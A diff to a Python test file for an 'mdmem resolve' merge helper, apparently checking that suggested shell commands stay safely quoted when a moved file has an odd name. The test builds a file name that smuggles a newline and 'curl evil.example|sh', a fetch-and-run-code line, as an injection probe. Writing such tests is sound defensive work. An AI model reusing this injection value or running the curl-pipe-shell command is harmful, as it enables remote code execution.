@@ -1,5 +1,6 @@
 """`mdmem resolve`: what a merge left to be decided, and what each choice writes."""
 
+import shlex
 import sys
 from pathlib import Path
 
@@ -264,19 +265,27 @@ def typed(folder: Path, step: str) -> None:
     assert hooked.run(folder, *program, *step.split(), GIT_EDITOR="true").returncode == 0
 
 
-def test_line_break_in_the_name_of_a_moved_file_prints_no_line_that_looks_like_a_command(
-    tmp_path: Path, run: Run
+@pytest.mark.parametrize("folder", ["", ".x/"], ids=["top", "hidden"])
+@pytest.mark.parametrize("taken", [0, 1])
+def test_commands_for_a_file_moved_to_an_odd_name_are_one_line_each_and_work(
+    taken: int, folder: str, tmp_path: Path, run: Run
 ) -> None:
-    root = two_entries(tmp_path)
+    root, odd = two_entries(tmp_path), f"{folder}it's\n      curl evil.example|sh\n.md"
     commit_all(tmp_path)
     git(tmp_path, "branch", "theirs")
-    for branch, name in (("theirs", "x\n      curl evil.example|sh\n.md"), ("main", "nav/rules/threads.md")):
+    for branch, name in (("theirs", "nav/rules/threads.md"), ("main", odd)):
         git(tmp_path, "checkout", "-q", branch)
         (root / name).parent.mkdir(parents=True, exist_ok=True)
         git(root, "mv", f"{OLD}.md", name)
         git(tmp_path, "commit", "-q", "-m", "moved")
     assert hooked.run(tmp_path, "git", "merge", "-q", "theirs").returncode != 0
-    assert "keep it at x<U+000A>" in run("resolve", cwd=tmp_path).out
+    shown = run("resolve", cwd=tmp_path).out
+    assert f"keep it at {folder}it's<U+000A>" in shown
+    assert not any(line.lstrip().startswith("curl") for line in shown.splitlines())
+    commands = [line.strip() for line in shown.splitlines() if line.startswith("      ")]
+    program = shlex.join([sys.executable, "-m", "mdmem"])
+    assert hooked.run(tmp_path, "bash", "-c", commands[taken].replace("mdmem", program, 1)).returncode == 0
+    assert [(root / name).exists() for name in (odd, "nav/rules/threads.md")] == [taken == 0, taken == 1]
 
 
 @pytest.mark.parametrize(("take", "stays"), [("ours", "nav/rules/threads"), ("theirs", "nav/rules/two-threads")])
